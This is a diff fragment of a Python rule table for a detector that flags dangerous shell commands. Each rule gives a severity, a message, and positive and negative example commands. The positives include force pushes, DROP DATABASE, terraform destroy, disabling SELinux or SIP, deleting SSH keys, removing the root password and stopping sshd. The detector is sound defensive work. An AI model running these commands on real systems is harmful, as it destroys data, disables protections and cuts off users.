+        "{} throws away work that may not be saved anywhere else",
+        git_destructive,
+        (
+            "git push --force",
+            "git push -f origin main",
+            "git reset --hard HEAD~1",
+            "git clean -fdx",
+            "git push origin +main",
+            "git checkout -- .",
+            "git branch -D feature",
+        ),
+        ("git push", "git status", "git reset --soft HEAD~1", "git clean -n", "git commit -m 'rm -rf /'"),
+    ),
+    Rule(
+        "container-mass-delete",
+        "containers",
+        HIGH,
+        "{} deletes many containers, images or cluster objects at once",
+        container_mass_delete,
+        (
+            "docker system prune -a",
+            "docker rm -f $(docker ps -aq)",
+            "docker volume prune -f",
+            "kubectl delete pods --all",
+            "kubectl delete namespace prod",
+        ),
+        ("docker ps -a", "docker rm web1", "kubectl get pods", "kubectl delete pod web-1"),
+    ),
+    Rule(
+        "sql-destructive",
+        "database",
+        HIGH,
+        "runs `{}`, which deletes data in the database",
+        sql_destructive,
+        (
+            "mysql -e 'DROP DATABASE shop'",
+            "psql -c 'TRUNCATE users'",
+            "dropdb shop",
+            "redis-cli FLUSHALL",
+            "psql -c 'DELETE FROM users;'",
+        ),
+        ("psql -c 'SELECT 1'", "mysql -e 'SHOW DATABASES'", "psql -c 'DELETE FROM users WHERE id=1'"),
+    ),
+    Rule(
+        "security-off",
+        "system",
+        HIGH,
+        "turns off a security protection ({})",
+        selinux_off,
+        ("setenforce 0", "csrutil disable", "sudo spctl --master-disable", "xattr -cr /"),
+        ("getenforce", "xattr -l file", "xattr -cr ./MyApp.app"),
+    ),
+    Rule("windows-wipe", "delete", CRITICAL, "{} wipes a Windows drive or system folder", windows_wipe, (), ()),
+    Rule(
+        "cloud-destroy",
+        "cloud",
+        HIGH,
+        "{} deletes cloud resources or data",
+        cloud_destroy,
+        ("terraform destroy", "aws s3 rm s3://bucket --recursive", "gsutil rm -r gs://b"),
+        ("terraform plan", "aws s3 ls"),
+    ),
+    Rule(
+        "user-delete",
+        "accounts",
+        HIGH,
+        "removes the account or password of {}",
+        user_delete,
+        ("userdel -r bob", "passwd -d root"),
+        ("id bob",),
+    ),
+    Rule(
+        "remove-core-package",
+        "packages",
+        HIGH,
+        "removes {}, a package the system needs to run",
+        package_remove_core,
+        ("apt remove coreutils", "sudo apt-get purge sudo", "yum remove systemd"),
+        ("apt remove vim",),
+    ),
+    Rule(
+        "overwrite-dotfile",
+        "delete",
+        HIGH,
+        "overwrites or deletes {}",
+        overwrite_dotfile,
+        ("echo x > ~/.bashrc", "rm ~/.ssh/id_rsa", "cat k > ~/.ssh/authorized_keys"),
+        ("echo x >> ~/.bashrc", "cat ~/.bashrc"),
+    ),
+    Rule(
+        "remote-delete",
+        "cloud",
+        HIGH,
+        "{} deletes remote resources or data, usually for good",
+        remote_delete,
+        (
+            "aws secretsmanager delete-secret --secret-id x",
+            "gh repo delete o/r",
+            "helm uninstall web",
+            "rclone purge r:b",
+            "vgremove vg1",
+            "heroku apps:destroy",
+            "vault kv delete secret/x",
+            "npm unpublish pkg",
+            "gcloud compute instances delete vm1",
+        ),
+        ("aws s3 ls", "gh repo view", "helm list", "npm install", "gcloud config list"),
+    ),
+    Rule(
+        "http-delete",
+        "cloud",
+        HIGH,
+        "sends an HTTP DELETE to {}",
+        http_delete,
+        ("curl -X DELETE http://localhost:9200/logs", "curl --request DELETE https://api/x/1"),
+        ("curl -X GET http://x", "curl http://x"),
+    ),
+    Rule(
+        "sync-delete",
+        "delete",
+        HIGH,
+        "deletes files in {} that are not in the source",
+        sync_delete,
+        ("rsync -a --delete src/ dst/", "rclone sync /src remote:b --delete-excluded"),
+        ("rsync -a src/ dst/",),
+    ),
+    Rule(
+        "network-down",
+        "network",
+        HIGH,
+        "takes the network down ({}): a remote session would be cut off",
+        network_down,
+        ("ifconfig eth0 down", "ip link set eth0 down", "sudo systemctl stop NetworkManager", "systemctl stop sshd"),
+        ("ip addr", "ifconfig", "systemctl status sshd"),
+    ),
+    Rule(
+        "kill-9",
+        "processes",
+        MODERATE,
+        "force-kills {} without letting it clean up",
+        kill_pid,
+        ("kill -9 12345", "pkill -9 node"),
+        ("kill 12345",),
+    ),
+    Rule(
+        "as-root",
+        "privilege",
+        MODERATE,
+        "runs with root privileges ({})",
+        runs_as_root,
+        ("sudo apt update",),
+        ("apt list",),
+    ),
 )
 
 RULES_BY_ID = {r.id: r for r in RULES}
